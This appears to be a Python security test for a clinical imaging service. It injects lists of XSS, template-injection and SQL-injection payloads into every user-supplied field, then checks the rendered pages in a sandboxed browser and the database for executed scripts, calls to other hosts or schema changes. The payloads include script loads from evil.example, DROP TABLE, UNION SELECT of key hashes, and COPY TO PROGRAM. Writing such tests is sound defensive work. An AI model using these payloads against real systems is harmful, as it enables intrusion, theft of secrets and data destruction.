"""R12: scripts and SQL in every text that a caller may send, shown in a real browser and read back."""

from __future__ import annotations

import json
import shutil
import sqlite3
import subprocess
import sys
import tempfile
from collections.abc import Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
from playwright.sync_api import Browser, Page, Route, sync_playwright
from pydicom import config

from benchmarks.workspace import run_command
from torture.besieged import Besieged
from torture.bombs import data_set, written
from torture.outcome import Outcome

TITLE = "Scripts and SQL in what is sent (R12)"
SHORT, EXPLAINED = 5, 12
ARGUMENTS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"]
RUN = "window.ran=1;alert(1)"
SCRIPTS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<SCRIPT/x>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module src=data:text/javascript,alert(1)></script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"<img src=x onerror=&#97;lert(1) onload={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f'" onmouseover="{RUN}" style="position:fixed;inset:0',
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    "<iframe src=javascript:alert(1)></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    '" style="background:url(//evil.example/x)',
    "<form action=//evil.example><button>x</button></form>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{{7*7}}{{config}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${alert(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    f"`;{RUN};`",
    f"';{RUN};'",
    f'";{RUN};"',
    f"\\';{RUN};//",
    f"\u2028{RUN}\u2029",
    f"<div hx-on:load='{RUN}' hx-get=//evil.example hx-trigger=load>x</div>",
    f"<button hx-post=/sign-out hx-trigger=load onclick={RUN}>x</button>",
    "<div data-hx-get=//evil.example data-hx-trigger=load></div>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u202e<script>{RUN}</script>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
)
QUERIES = (
    *("' OR '1'='1", "' OR 1=1 --", '" OR ""="', "') OR ('1'='1", "1; DROP TABLE cases; --", "'; DROP TABLE cases; --"),
    *("'; DELETE FROM api_keys; --", "'; UPDATE api_keys SET role='admin'; --", "x'); DROP TABLE audit_events; --"),
    *("' UNION SELECT secret_hash FROM api_keys --", "' UNION SELECT name, sql FROM sqlite_master --", "admin'--"),
    *("'; ATTACH DATABASE '/tmp/x.db' AS x; --", "'; PRAGMA writable_schema=1; --", "'; VACUUM INTO '/tmp/x'; --"),
    *(
        "'||(SELECT name FROM api_keys LIMIT 1)||'",
        "1 AND 1=CAST((SELECT version()) AS int)",
        "'; SELECT pg_sleep(9); --",
    ),
    *("'; COPY cases TO PROGRAM 'id'; --", "$$; DROP TABLE cases; $$", "\\'; DROP TABLE cases; --", "%' OR '%'='"),
    *(
        "%",
        "_",
        "\\",
        "'",
        '"',
        "''",
        "`",
        "--",
        "/*",
        "*/",
        ";",
        "%_%'",
        "?",
        ":name",
        "%s",
        "%(name)s",
        "{0}",
        "NULL",
    ),
)
PAYLOADS: tuple[str, ...] = (*SCRIPTS, *QUERIES)


@dataclass
class Seen:
    """What the browser did that no page of ours asks for."""

    dialogs: list[str] = field(default_factory=list)
    policy: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    elsewhere: list[str] = field(default_factory=list)
    ran: list[str] = field(default_factory=list)
    pages: int = 0


def run(short: bool) -> Outcome:
    chromium = shutil.which("chromium") or shutil.which("google-chrome")
    sent = [PAYLOADS[i] for i in range(0, len(PAYLOADS), len(PAYLOADS) // SHORT)][:SHORT] if short else list(PAYLOADS)
    with tempfile.TemporaryDirectory() as folder:
        workspace = Path(folder) / "workspace"
        if not short:
            run_command(workspace, "demo", "--cases", "60", "--no-serve")
        return send_and_look(workspace, sent, chromium, with_model=not short)


def send_and_look(workspace: Path, sent: list[str], chromium: str | None, *, with_model: bool) -> Outcome:
    """``sent`` everywhere, then every page that shows it."""
    with Besieged(workspace) as server:
        database = server.workspace / "clinical_mm.db"
        admin, before = server.key("admin"), schema(database)
        with server.client(admin) as client:
            texts = Texts(client)
            for payload in sent:
                texts.send(payload)
            if with_model:
                texts.explain()
            reader = client.post("/keys", json={"role": "admin", "name": SCRIPTS[0]}).json()["secret"]
            faults = texts.faults + project_names(server, sent[:: max(1, len(sent) // 10)])
            faults += [] if schema(database) == before else ["the tables of the database changed"]
            faults += texts.compare(database)
        with ThreadPoolExecutor(1) as apart:  # the caller's thread may have a browser, thus a loop, of its own
            seen = apart.submit(
                look_everywhere, chromium, server.url, reader, addresses(texts, server.workspace)
            ).result()
    for what in ("dialogs", "ran", "policy", "errors", "elsewhere"):
        faults += [f"{what}: {told}" for told in getattr(seen, what)[:5]]
    return Outcome(table(len(sent), texts, seen), faults)


def look_everywhere(chromium: str | None, url: str, key: str, shown: Iterator[str]) -> Seen:
    """Every address in a browser."""
    seen = Seen()
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=ARGUMENTS)
        look(browser, url, key, shown, seen)
        browser.close()
    return seen


def table(payloads: int, texts: Texts, seen: Seen) -> str:
    rows = [
        ("payloads", payloads),
        ("texts sent with one", texts.sent),
        ("of them refused, with 4xx", texts.refused),
        ("stored otherwise than sent", len(texts.faults)),
        ("pages looked at in a browser", seen.pages),
        ("dialogs opened, scripts run", f"{len(seen.dialogs)}, {len(seen.ran)}"),
        ("violations of the content security policy, errors of scripts", f"{len(seen.policy)}, {len(seen.errors)}"),
        ("requests to other hosts", len(seen.elsewhere)),
    ]
    head = "In DICOM tags, file names, notes, ids, labels, comments, key, project and configuration names, searches."
    return "\n".join([head, "", "| what | count |", "|---|---|", *(f"| {a} | {b} |" for a, b in rows)])


class Texts:
    """Every text of the service that a caller chooses."""

    def __init__(self, client: httpx.Client) -> None:
        self._client = client
        self.cases: dict[str, str] = {}
        self.runs: list[str] = []
        self.known = {row["id"] for row in client.get("/cases?limit=200").json()["items"]}
        self.sent = self.refused = 0
        self.faults: list[str] = []

    def send(self, payload: str) -> None:
        """One payload, everywhere."""
        key = self._ask("POST", "/keys", {"role": "clinician", "name": payload})
        if payload not in {k["name"] for k in self._client.get("/keys").json()["items"]}:
            self.faults.append(f"a key's name: {payload}")
        case = self._case(payload, key["secret"])
        self.cases[case["id"]] = payload
        reviews, comment = f"/cases/{case['id']}/reviews", {"verdict": "unsure", "comment": payload}
        self._ask("PATCH", "/project", {"read_first": True})
        self._ask("POST", reviews, {**comment, "before_model": True}, key["secret"])
        self._ask("PATCH", "/project", {"read_first": False})
        self._ask("POST", reviews, {"verdict": "override", "diagnoses": [payload]}, refused=True)
        self._ask("POST", "/training-runs", {"config": payload}, refused=True)
        run = self._ask("POST", "/training-runs", {"config": "small", "set": {"description": payload}})
        self.runs.append(run["id"])
        found = [self._client.post(path, json={"q": payload}) for path in ("/cases/search", "/cases/counts")]
        found += [self._client.get(path, params={"q": payload}) for path in ("/cases", "/cases/counts")]
        found += [self._client.get("/audit", params={"object_id": payload})]
        found += [self._client.get("/cases", params={"diagnosis": payload})]
        for answer in found:
            self._count(answer, allowed=answer.status_code in {200, 422})

    def explain(self) -> None:
        """Let a model speak of the first cases, so that its pages show their words too."""
        for case in list(self.cases)[:EXPLAINED]:
            prediction = self._ask("POST", f"/cases/{case}/predictions", {})
            self._ask("POST", f"/predictions/{prediction['id']}/explanations", {})

    def compare(self, database: Path) -> list[str]:
        """What is stored against what was sent, from the database itself."""
        with sqlite3.connect(f"file:{database}?mode=ro", uri=True) as connection:
            rows = dict(connection.execute("SELECT id, note FROM cases").fetchall())
            ids = dict(connection.execute("SELECT id, external_id FROM cases").fetchall())
            comments = dict(connection.execute("SELECT case_id, comment FROM reviews").fetchall())
        wrong = [p for case, p in self.cases.items() if rows.get(case) != note(p) or ids.get(case) != p]
        wrong += [p for case, p in self.cases.items() if comments.get(case) != p]
        extra = set(rows) - set(self.cases) - self.known
        return [*(f"stored otherwise: {p}" for p in wrong), *(f"a case that nobody sent: {case}" for case in extra)]

    def _case(self, payload: str, secret: str) -> dict[str, Any]:
        body = {"external_id": payload, "patient": {"id": payload}, "note": note(payload)}
        parts = [("case", (None, json.dumps(body).encode())), ("files", (payload, film(payload)))]
        headers = {"Authorization": f"Bearer {secret}", "Idempotency-Key": "key"}
        answer = self._client.post("/cases", files=parts, headers={**headers, "Idempotency-Key": str(len(self.cases))})
        self._count(answer, allowed=answer.status_code == 201)
        self._count(self._client.post("/cases", json={**body, "diagnoses": [payload]}), allowed=True)
        self._count(self._client.post("/cases", json={**body, "vitals": {payload: 1}}), allowed=True)
        case: dict[str, Any] = answer.json()
        if (case["external_id"], case["patient"]["id"], case["note"]) != (payload, payload, note(payload)):
            self.faults.append(f"a case: {payload}")
        return case

    def _ask(
        self, method: str, path: str, body: dict[str, Any], secret: str | None = None, *, refused: bool = False
    ) -> dict[str, Any]:
        headers = {} if secret is None else {"Authorization": f"Bearer {secret}"}
        answer = self._client.request(method, path, json=body, headers=headers)
        self._count(answer, allowed=answer.is_success != refused)
        return dict(answer.json())

    def _count(self, answer: httpx.Response, *, allowed: bool) -> None:
        self.sent += 1
        self.refused += 400 <= answer.status_code < 500
        if not allowed or answer.status_code >= 500:
            self.faults.append(
                f"{answer.request.method} {answer.request.url.path}: {answer.status_code} {answer.text[:150]}"
            )


def note(payload: str) -> str:
    return f"Fever {payload} and cough."


def film(payload: str) -> bytes:
    """A film with the payload in every tag that a page may show, and in one that none does."""
    ds = data_set(32)
    ds.SpecificCharacterSet = "ISO_IR 192"
    with config.disable_value_validation():
        ds.PatientName, ds.PatientID, ds.InstitutionName, ds.SeriesDescription = (payload[:60],) * 4
        ds.Manufacturer = ds.ManufacturerModelName = ds.StudyDescription = payload[:60]
        code = payload[:16].encode("ascii", "replace").decode()  # a code string has no other letters
        ds.BodyPartExamined = ds.ViewPosition = ds.PatientOrientation = code
        ds.WindowCenter, ds.WindowWidth = 500, 900
        ds.WindowCenterWidthExplanation = payload[:60].replace("\\", "/")
        return written(ds)


def project_names(server: Besieged, payloads: Sequence[str]) -> list[str]:
    """Projects are named on the command line."""
    faults = []
    for payload in payloads:
        command = [sys.executable, "-m", "api.cli", "keys", "create", "--role", "viewer", f"--project={payload}"]
        made = subprocess.run(command, env=server.environment, capture_output=True, text=True, check=False)
        if made.returncode not in {0, 1, 2} or "Traceback" in made.stderr:
            faults.append(f"a project's name: {payload}: {made.stderr[-150:]}")
        elif made.returncode == 0:
            with server.client(made.stdout.splitlines()[-1]) as client:
                named = client.get("/project").json()["name"]
                faults += [] if named == payload else [f"a project's name: {payload!r} became {named!r}"]
    return faults


def look(browser: Browser, url: str, secret: str, shown: Iterator[str], seen: Seen) -> None:
    """Every page that shows what was sent."""
    page = browser.new_page()
    page.set_default_timeout(30_000)
    page.on("dialog", lambda dialog: (seen.dialogs.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: seen.errors.append(str(error)))
    page.on("console", lambda told: seen.policy.append(told.text) if "Content Security Policy" in told.text else None)

    def only_ours(route: Route) -> None:
        if route.request.url.startswith((url, "data:", "blob:")):
            route.continue_()
        else:
            seen.elsewhere.append(route.request.url)
            route.abort()

    page.route("**/*", only_ours)
    page.goto(f"{url}/sign-in")
    page.get_by_label("Key").fill(secret)
    page.get_by_role("button", name="Sign in").click()
    page.wait_for_url(f"{url}/")
    for address in shown:
        page.goto(f"{url}{address}", wait_until="load")
        disturb(page)
        seen.pages += 1
        if page.evaluate("window.ran === 1"):
            seen.ran.append(address)


def addresses(texts: Texts, workspace: Path) -> Iterator[str]:
    from api.pages.session import sessions_of

    yield from ("/", "/?review=unsure", "/training", "/models", "/watching")
    for case, payload in texts.cases.items():
        yield f"/?s={sessions_of(workspace.resolve()).sealed(payload)}"
        yield f"/cases/{case}"
        yield f"/cases/{case}/report"
    yield from (f"/training/{run}" for run in texts.runs[:10] if run)


def disturb(page: Page) -> None:
    """What a reader's hand would set off."""
    page.mouse.move(300, 300)
    page.keyboard.press("Tab")


def schema(database: Path) -> list[tuple[str, ...]]:
    """Every table and index, as the database describes them."""
    with sqlite3.connect(f"file:{database}?mode=ro", uri=True) as connection:
        return connection.execute("SELECT type, name, tbl_name, sql FROM sqlite_master ORDER BY name").fetchall()
